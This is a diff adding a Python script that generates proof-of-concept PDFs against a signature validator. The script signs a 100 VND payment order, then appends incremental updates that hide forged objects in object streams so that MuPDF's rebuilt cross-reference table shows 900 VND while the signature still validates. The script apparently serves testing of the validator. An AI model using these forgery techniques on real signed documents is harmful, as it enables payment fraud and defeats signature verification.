@@ -1,0 +1,205 @@
+#!/usr/bin/env python3
+"""Object streams written after a signature that hold forged versions a PDF reader rebuilding
+the cross-reference table shows (MuPDF loads every object stream's members over the table),
+written back by a later update — helper 193's attacks on the relaxed rule of 2026-12-06 (an
+earlier section may place a superseded member), each TOTAL-PASSED or told as "history" by that
+build while MuPDF's rebuild drew "Payment order. Amount: 900 VND". Made with pyHanko (the
+signatures) and by hand (the updates), nothing of kyso's.
+
+    python3 objstm_history.py OUTDIR
+
+OUTDIR gets root.pem; signed.pdf (the control: a one-page payment order of 100 VND, signed);
+square.pdf (a Square annotation drawing 900 VND in an object stream after the signature, then
+written plainly as an empty signature widget that the page's /Annots and the form's /Fields
+name; square-countersigned.pdf: pyHanko signs that field); catalog.pdf, page.pdf, font.pdf (the
+catalog, the page or its font forged in such an object stream, which its update's section lists,
+then written back as signed).
+"""
+import datetime as dt
+import io
+import os
+import re
+import sys
+import zlib
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+from cryptography.x509.oid import NameOID
+
+D = sys.argv[1]
+os.makedirs(D, exist_ok=True)
+NOW = dt.datetime.now(dt.timezone.utc)
+
+def cert(name, key, issuer, issuer_key, ca):
+    return (x509.CertificateBuilder().subject_name(name).issuer_name(issuer)
+            .public_key(key.public_key()).serial_number(x509.random_serial_number())
+            .not_valid_before(NOW - dt.timedelta(days=1)).not_valid_after(NOW + dt.timedelta(days=365))
+            .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
+            .add_extension(x509.KeyUsage(digital_signature=not ca, content_commitment=not ca,
+                                         key_encipherment=False, data_encipherment=False,
+                                         key_agreement=False, key_cert_sign=ca, crl_sign=ca,
+                                         encipher_only=False, decipher_only=False), critical=True)
+            .sign(issuer_key, hashes.SHA256()))
+
+if not os.path.exists(os.path.join(D, 'root.pem')):
+    rk = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    rn = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, 'H193 Root')])
+    root = cert(rn, rk, rn, rk, True)
+    sk = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    signer = cert(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, 'Nguyen Van A')]), sk, rn, rk, False)
+    for name, data in [('root.pem', root.public_bytes(serialization.Encoding.PEM)),
+                       ('signer.pem', signer.public_bytes(serialization.Encoding.PEM)),
+                       ('signer.key', sk.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                                                       serialization.NoEncryption()))]:
+        open(os.path.join(D, name), 'wb').write(data)
+
+def build(objs):
+    out = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
+    offs = {}
+    for n in sorted(objs):
+        offs[n] = len(out)
+        out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
+    size = max(objs) + 1
+    x = len(out)
+    out += b'xref\n0 %d\n0000000000 65535 f \n' % size
+    for n in range(1, size):
+        out += (b'%010d 00000 n \n' % offs[n]) if n in offs else b'0000000000 00000 f \n'
+    out += (b'trailer\n<< /Size %d /Root 1 0 R /ID [<0123456789abcdef0123456789abcdef>'
+            b'<0123456789abcdef0123456789abcdef>] >>\nstartxref\n%d\n%%%%EOF\n' % (size, x))
+    return bytes(out)
+
+def stream(data, extra=b''):
+    return b'<< /Length %d %s>>\nstream\n' % (len(data), extra) + data + b'\nendstream'
+
+def last_xref(pdf):
+    return (int(re.findall(rb'startxref\s+(\d+)', pdf)[-1]),
+            int(re.findall(rb'/Size (\d+)', pdf)[-1]))
+
+def sign(pdf, name='Sig1'):
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+    from pyhanko.sign import signers
+    from pyhanko.sign.fields import SigSeedSubFilter
+    s = signers.SimpleSigner.load(os.path.join(D, 'signer.key'), os.path.join(D, 'signer.pem'),
+                                  ca_chain_files=(os.path.join(D, 'root.pem'),))
+    out = io.BytesIO()
+    signers.PdfSigner(signers.PdfSignatureMetadata(field_name=name, subfilter=SigSeedSubFilter.PADES),
+                      signer=s).sign_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False), output=out)
+    return out.getvalue()
+
+def raw(pdf, n):
+    return re.findall(rb'\n%d 0 obj\s*(.*?)\s*endobj' % n, pdf, re.S)[-1]
+
+def append(pdf, objs, trailer, entries=None):
+    out = bytearray(pdf)
+    offs = {}
+    for num, body in objs:
+        offs[num] = len(out)
+        out += b'%d 0 obj\n' % num + body + b'\nendobj\n'
+    offs.update(entries or {})
+    x = len(out)
+    out += b'xref\n'
+    for num in sorted(offs):
+        o = offs[num]
+        out += b'%d 1\n' % num + (b'0000000000 00001 f \n' if o is None else b'%010d 00000 n \n' % o)
+    out += b'trailer\n<< ' + trailer + b' /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (last_xref(pdf)[0], x)
+    return bytes(out)
+
+def append_xref_stream(pdf, objs, entries, trailer, num):
+    out = bytearray(pdf)
+    ent = {}
+    for n, body in objs:
+        ent[n] = (1, len(out), 0)
+        out += b'%d 0 obj\n' % n + body + b'\nendobj\n'
+    ent.update(entries)
+    x = len(out)
+    ent[num] = (1, x, 0)
+    rows = b''.join(t.to_bytes(1, 'big') + a.to_bytes(4, 'big') + b.to_bytes(2, 'big')
+                    for t, a, b in (ent[n] for n in sorted(ent)))
+    index = b' '.join(b'%d 1' % n for n in sorted(ent))
+    data = zlib.compress(rows)
+    out += (b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] %s /Prev %d /Length %d '
+            b'/Filter /FlateDecode >>\nstream\n' % (num, max(ent) + 1, index, trailer, last_xref(pdf)[0], len(data))
+            + data + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % x)
+    return bytes(out)
+
+def object_stream(members):
+    head, body = b'', b''
+    for n, o in members:
+        head += b'%d %d ' % (n, len(body))
+        body += o + b'\n'
+    data = zlib.compress(head + body)
+    return (b'<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n'
+            % (len(members), len(head), len(data)) + data + b'\nendstream')
+
+def save(name, data):
+    p = os.path.join(D, name)
+    open(p, 'wb').write(data)
+    return p
+
+HELV = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
+IDS = b'/ID [<0123456789abcdef0123456789abcdef><0123456789abcdef0123456789abcdef>]'
+
+
+page = {
+    1: b'<< /Type /Catalog /Pages 2 0 R >>',
+    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
+       b'/Resources << /Font << /F1 5 0 R >> >> >>',
+    4: stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 100 VND) Tj ET'),
+    5: HELV,
+}
+signed = sign(build(page))
+save('signed.pdf', signed)
+
+
+# Case B: a new (post-signature) signature widget, 12, whose forged visible version sits in an
+# object stream written after the signature and which a later update rewrites plainly,
+# invisible. The signed revision does not use 12, so rebuilt_shows_otherwise never compares it.
+prev, size = last_xref(signed)
+assert size == 11, size
+AP = b'1 g 0 0 500 40 re f 0 g BT /F1 20 Tf 5 10 Td (Payment order. Amount: 900 VND) Tj ET'
+forged_ap = stream(AP, b'/Type /XObject /Subtype /Form /BBox [0 0 500 40] /Resources << /Font << /F1 5 0 R >> >> ')
+forged_w = (b"<< /Type /Annot /Subtype /" + b"Square" + b' /F 4 /Rect [55 690 555 730] '
+            b'/P 3 0 R /AP << /N 11 0 R >> >>')
+TAG = "square"
+u1 = append_xref_stream(signed, [(11, forged_ap), (13, object_stream([(12, forged_w)]))],
+                        {12: (2, 13, 0)}, b'/Root 1 0 R ' + IDS, 14)
+plain_w = b'<< /FT /Sig /T (Sig2) /Type /Annot /Subtype /Widget /F 132 /Rect [0 0 0 0] /P 3 0 R >>'
+page3 = raw(signed, 3).replace(b'/Annots [ 8 0 R ]', b'/Annots [ 8 0 R 12 0 R ]')
+form7 = raw(signed, 7).replace(b'/Fields [ 8 0 R ]', b'/Fields [ 8 0 R 12 0 R ]')
+assert page3 != raw(signed, 3) and form7 != raw(signed, 7)
+final = append(u1, [(3, page3), (7, form7), (12, plain_w)], b'/Size 15 /Root 1 0 R ' + IDS)
+save(TAG + '.pdf', final)
+save(TAG + '-countersigned.pdf', sign(final, 'Sig2'))  # pyHanko countersigns the empty field
+
+
+def forged_history(KIND):
+
+    cat = raw(signed, 1)
+    if KIND == 'catalog':
+        forged = cat.replace(b'/Pages 2 0 R', b'/Pages 11 0 R')
+        assert forged != cat
+        plain = [(11, b'<< /Type /Pages /Kids [12 0 R] /Count 1 >>'),
+                 (12, b'<< /Type /Page /Parent 11 0 R /MediaBox [0 0 595 842] /Contents 13 0 R '
+                      b'/Resources << /Font << /F1 5 0 R >> >> /Annots [8 0 R] >>'),
+                 (13, stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET'))]
+        member, back = 1, cat
+    elif KIND == 'page':
+        pg = raw(signed, 3)
+        forged = pg.replace(b'/Contents 4 0 R', b'/Contents 13 0 R')
+        assert forged != pg
+        plain = [(13, stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET'))]
+        member, back = 3, pg
+    elif KIND == 'font':  # Helvetica -> a font whose /Differences maps 1 to 9
+        forged = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Differences [49 /nine] >> >>'
+        plain = []
+        member, back = 5, raw(signed, 5)
+    u1 = append_xref_stream(signed, plain + [(14, object_stream([(member, forged)]))],
+                            {member: (2, 14, 0)}, b'/Root 1 0 R ' + IDS, 15)
+    final = append(u1, [(member, back)], b'/Size 16 /Root 1 0 R ' + IDS)
+    save(KIND + '.pdf', final)
+
+
+
+for kind in ('catalog', 'page', 'font'):
+    forged_history(kind)
